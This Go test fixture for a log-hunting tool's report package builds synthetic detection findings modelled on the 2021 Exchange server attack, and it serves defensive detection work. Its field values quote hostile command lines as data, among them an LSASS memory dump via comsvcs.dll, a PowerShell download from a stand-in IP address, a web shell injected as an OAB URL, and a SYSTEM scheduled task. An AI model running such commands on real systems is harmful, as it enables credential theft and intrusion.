package report

import (
	"fmt"
	"time"

	"github.com/tocsin-project/tocsin/event"
	"github.com/tocsin-project/tocsin/internal/finding"
)

// A trace is one rule's part in the fixture: count findings from start, one
// every gap.
type trace struct {
	title      string
	severity   finding.Severity
	techniques []string
	actors     []string
	host       []string // in turn
	path       string
	format     string
	start      string
	gap        time.Duration
	count      int
	fields     []finding.Field
}

// traces are what a hunt over one town hall's logs of the 2021 Exchange
// attack may find.
var traces = []trace{
	{
		"Exchange: request forged through the front-end proxy (CVE-2021-26855)", finding.Critical,
		[]string{"T1190"},
		[]string{"G0125"},
		[]string{"EX01"},
		"HttpProxy/Ecp/HttpProxy_2021022803-1.LOG", "exchange", "2021-02-28T03:12:44Z", 41 * time.Second, 18,
		[]finding.Field{{Name: "AnchorMailbox", Value: "ServerInfo~a]@ex01.town.example:444/mapi/emsmdb/?#"}, {Name: "ClientIPAddress", Value: "203.0.113.66"}, {Name: "UserAgent", Value: "python-requests/2.25.1"}},
	},
	{
		"Exchange: web shell written as an OAB virtual directory's external URL (CVE-2021-27065)", finding.Critical,
		[]string{"T1190", "T1505.003"},
		[]string{"G0125"},
		[]string{"EX01"},
		"ECP/Server/ECPServer20210228-1.LOG", "exchange", "2021-02-28T03:31:02Z", 3 * time.Minute, 3,
		[]finding.Field{{Name: "GenericInfo", Value: "S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){…}</script>'"}},
	},
	{
		"Web shell asked for in aspnet_client", finding.High,
		[]string{"T1505.003", "T1100"},
		[]string{"G0125"},
		[]string{"EX01", "EX02"},
		"iis/W3SVC1/u_ex210228.log", "iis", "2021-02-28T03:40:10Z", 37 * time.Minute, 46,
		[]finding.Field{{Name: "cs-method", Value: "POST"}, {Name: "cs-uri-stem", Value: "/aspnet_client/supp0rt.aspx"}, {Name: "cs(User-Agent)", Value: "antSword/v2.1"}, {Name: "sc-status", Value: "200"}},
	},
	{
		"Shell started by the IIS worker process", finding.High,
		[]string{"T1505.003", "T1059.003"},
		nil,
		[]string{"EX01"},
		"evtx/EX01-Sysmon.evtx", "evtx", "2021-02-28T03:41:00Z", 95 * time.Minute, 12,
		[]finding.Field{{Name: "ParentImage", Value: `C:\Windows\System32\inetsrv\w3wp.exe`}, {Name: "Image", Value: `C:\Windows\System32\cmd.exe`}, {Name: "CommandLine", Value: `"cmd" /c cd /d "C:\inetpub\wwwroot\aspnet_client\"&whoami /all&echo [S]&cd&echo [E]`}},
	},
	{
		"LSASS memory dumped with comsvcs.dll", finding.Critical,
		[]string{"T1003.001", "T1218.011"},
		nil,
		[]string{"EX01"},
		"evtx/EX01-Sysmon.evtx", "evtx", "2021-02-28T05:02:19Z", time.Hour, 2,
		[]finding.Field{{Name: "CommandLine", Value: `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 628 C:\inetpub\wwwroot\aspnet_client\x.dmp full`}},
	},
	{
		"PowerShell with an encoded command", finding.Medium,
		[]string{"T1059.001", "T1027.010"},
		nil,
		[]string{"EX01", "EX02", "DC01"},
		"evtx/PowerShell-Operational.evtx", "evtx", "2021-02-26T07:55:00Z", 4*time.Hour + 11*time.Minute, 33,
		[]finding.Field{{Name: "ScriptBlockText", Value: "$c=New-Object Net.WebClient;$c.DownloadString('http://198.51.100.23/p')"}},
	},
	{
		"Mailbox exported by a PowerShell snap-in", finding.High,
		[]string{"T1114.002"},
		nil,
		[]string{"EX01"},
		"evtx/MSExchange Management.evtx", "evtx", "2021-03-01T01:20:00Z", 12 * time.Minute, 9,
		[]finding.Field{{Name: "Message", Value: "Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; New-MailboxExportRequest -Mailbox clerk"}},
	},
	{
		"Archive made of a folder of mailboxes", finding.Medium,
		[]string{"T1560.001"},
		nil,
		[]string{"EX01"},
		"evtx/EX01-Sysmon.evtx", "evtx", "2021-03-01T02:44:00Z", 9 * time.Minute, 4,
		[]finding.Field{{Name: "CommandLine", Value: `7z.exe a C:\ProgramData\it.zip C:\ProgramData\pst`}},
	},
	{
		"Account logged on with a password hash", finding.High,
		[]string{"T1550.002"},
		nil,
		[]string{"DC01"},
		"evtx/DC01-Security.evtx", "evtx", "2021-03-01T22:08:31Z", 53 * time.Minute, 5,
		[]finding.Field{{Name: "LogonType", Value: "9"}, {Name: "LogonProcessName", Value: "seclogo"}, {Name: "TargetUserName", Value: "svc-backup"}},
	},
	{
		"Scheduled task made from the command line", finding.Medium,
		[]string{"T1053.005"},
		nil,
		[]string{"EX01", "FS01"},
		"evtx/EX01-Sysmon.evtx", "evtx", "2021-03-02T00:14:00Z", 5 * time.Hour, 6,
		[]finding.Field{{Name: "CommandLine", Value: `schtasks /create /sc minute /mo 30 /tn VSPerfMon /tr C:\ProgramData\VSPerfMon\v.exe /ru SYSTEM`}},
	},
	{
		"Protective logging switched off", finding.High,
		[]string{"T1685"},
		nil,
		[]string{"EX02"},
		"evtx/EX02-System.evtx", "evtx", "2021-03-02T03:02:00Z", time.Hour, 1,
		[]finding.Field{{Name: "Service", Value: "WinDefend"}},
	},
	{
		"Many failed sign-ins from one address", finding.Low,
		[]string{"T1110.003"},
		nil,
		[]string{"web01"},
		"linux/auth.log", "syslog", "2021-02-26T00:03:11Z", 97 * time.Minute, 104,
		[]finding.Field{{Name: "message", Value: "Failed password for invalid user admin from 192.0.2.77 port 51122 ssh2"}},
	},
	{
		"Remote administration tool seen in DNS", finding.Informational,
		[]string{"T1219"},
		nil,
		[]string{""},
		"zeek/dns.log", "zeek", "2021-02-26T06:30:00Z", 3*time.Hour + 7*time.Minute, 58,
		[]finding.Field{{Name: "query", Value: "relay.support.example"}},
	},
}

// findings returns the fixture, in order of time within each rule.
func findings() []*finding.Finding {
	var list []*finding.Finding
	for i, t := range traces {
		start, err := time.Parse(time.RFC3339, t.start)
		if err != nil {
			panic(err)
		}
		for n := range t.count {
			list = append(list, &finding.Finding{
				Kind: "sigma", Time: start.Add(time.Duration(n) * t.gap).UnixNano(), Severity: t.severity, Title: t.title,
				Rule:       finding.Rule{ID: fmt.Sprintf("5f1d7b52-0000-4000-8000-%012d", i), Path: fmt.Sprintf("rules/exchange/%02d.yml", i)},
				Techniques: t.techniques, Groups: t.actors, Host: t.host[n%len(t.host)],
				Source: finding.Source{Path: "/srv/evidence/" + t.path, Format: t.format, Record: uint64(1000 + 7*n), Offset: int64(4096 + 512*n)},
				Fields: t.fields,
			})
		}
	}
	last := list[17]
	return append(list,
		&finding.Finding{
			Kind: "correlation", Time: last.Time, Severity: finding.Critical, Title: "Forged requests, then a web shell, on one server",
			Rule:       finding.Rule{ID: "5f1d7b52-0000-4000-8000-000000000099", Path: "rules/exchange/chain.yml"},
			Techniques: []string{"T1190", "T1505.003"}, Host: "EX01", Source: last.Source,
			Fields: []finding.Field{{Name: "host", Value: "EX01"}},
			Events: []finding.Source{list[0].Source, list[18].Source, list[21].Source}, Count: 64,
		},
		&finding.Finding{
			Kind: "indicator", Time: event.NoTime, Severity: finding.Medium, Title: "Address published by a partner",
			Indicator: finding.Indicator{ID: "indicator--8e2e2d2b-17d4-4cbf-938f-98ee46b3cd3f", Value: "203.0.113.66", Type: "ipv4-addr"},
			Source:    finding.Source{Path: "/srv/evidence/notes.txt", Format: "text", Record: 12, Offset: 640},
			Fields:    []finding.Field{{Name: "address", Value: "203.0.113.66"}},
		})
}

// at reads a time of the fixture.
func at(s string) int64 {
	t, err := time.Parse("2006-01-02 15:04", s)
	if err != nil {
		panic(err)
	}
	return t.UnixNano()
}

// covered is the coverage that goes with findings.
func covered() finding.Coverage {
	source := func(path, format string, records, damaged uint64, first, last string, origins ...string) finding.SourceCoverage {
		s := finding.SourceCoverage{
			Path: "/srv/evidence/" + path, Format: format, Origins: origins, Bytes: int64(records) * 310,
			Records: records, Damaged: damaged, First: event.NoTime, Last: event.NoTime,
		}
		if first != "" {
			s.First, s.Last = at(first), at(last)
		}
		return s
	}
	c := finding.Coverage{Rules: 412, Correlations: 9, Sources: []finding.SourceCoverage{
		source("ECP/Server/ECPServer20210228-1.LOG", "exchange", 8_114, 0, "2021-02-28 00:00", "2021-02-28 23:59", "exchange/ecp"),
		source("HttpProxy/Ecp/HttpProxy_2021022803-1.LOG", "exchange", 21_970, 0, "2021-02-28 03:00", "2021-02-28 03:59", "exchange/httpproxy"),
		source("evtx/DC01-Security.evtx", "evtx", 184_210, 0, "2021-02-27 11:20", "2021-03-05 23:58", "windows/Security"),
		source("evtx/EX01-Sysmon.evtx", "evtx", 96_004, 3, "2021-02-26 00:00", "2021-03-05 23:59", "windows/Microsoft-Windows-Sysmon/Operational"),
		source("evtx/EX02-System.evtx", "evtx", 4_120, 0, "2021-02-26 00:04", "2021-03-05 22:10", "windows/System"),
		source("evtx/MSExchange Management.evtx", "evtx", 2_311, 0, "2021-02-26 08:00", "2021-03-05 18:40", "windows/MSExchange Management"),
		source("evtx/PowerShell-Operational.evtx", "evtx", 1_022, 0, "2021-02-26 07:55", "2021-03-05 17:02", "windows/Microsoft-Windows-PowerShell/Operational"),
		source("iis/W3SVC1/u_ex210227.log", "iis", 301_442, 0, "2021-02-27 00:00", "2021-02-27 23:59", "iis"),
		source("iis/W3SVC1/u_ex210228.log", "iis", 320_117, 0, "2021-02-28 00:00", "2021-02-28 23:59", "iis"),
		source("linux/auth.log", "syslog", 9_541, 1, "2021-02-26 00:03", "2021-03-05 23:51", "linux/sshd", "linux/sudo"),
		source("notes.txt", "text", 40, 0, "", "", "text"),
		source("zeek/dns.log", "zeek", 254_550, 0, "2021-02-26 00:00", "2021-03-05 23:59", "zeek/dns"),
	}}
	c.Sources[3].Problems = []finding.Problem{
		{Offset: 1_118_208, Record: 40_211, Reason: "template refers to itself; the record is lost"},
		{Offset: 2_162_688, Reason: "chunk without its magic; 64 KiB are lost"},
	}
	c.Sources[9].Problems = []finding.Problem{{Offset: 88_120, Record: 1_204, Reason: "line longer than 1 MiB"}}
	c.Sources = append(c.Sources,
		finding.SourceCoverage{Path: "/srv/evidence/evtx/FS01-Security.evtx", Format: "evtx", Problem: "permission denied", First: event.NoTime, Last: event.NoTime},
		finding.SourceCoverage{Path: "/srv/evidence/backup/old.zip", Problem: "the archive is encrypted", First: event.NoTime, Last: event.NoTime},
		finding.SourceCoverage{Path: "/srv/evidence/iis/empty.log", Skipped: "empty", First: event.NoTime, Last: event.NoTime},
		finding.SourceCoverage{Path: "/srv/evidence/photo.jpg", Skipped: "not a log", First: event.NoTime, Last: event.NoTime},
		finding.SourceCoverage{Path: "/srv/evidence/plan.pdf", Skipped: "not a log", First: event.NoTime, Last: event.NoTime},
	)
	blind := func(n int, logsource, reason string) {
		for i := range n {
			c.Blind = append(c.Blind, finding.Blind{
				Title: fmt.Sprintf("Rule %d for %s", i+1, logsource), ID: fmt.Sprintf("%s-%d", logsource, i),
				Path: "rules/x.yml", Logsource: logsource, Reason: reason,
			})
		}
	}
	const none = "no log of this kind was read"
	blind(19, "linux/process_creation/*", none)
	blind(4, "*/proxy/*", none)
	blind(11, "windows/ps_module/*", none)
	blind(2, "windows/*/dns-server", none)
	blind(1, "acme/*/*", none)
	blind(3, "windows/process_access/*", "the log was read, but no record of this kind was in it")
	return c
}

// summary returns the fixture, summed up, and what its view got to see.
func summary(list []*finding.Finding) *Summary {
	s := NewSummary()
	for _, f := range list {
		if err := s.Add(f); err != nil {
			panic(err)
		}
	}
	return s
}
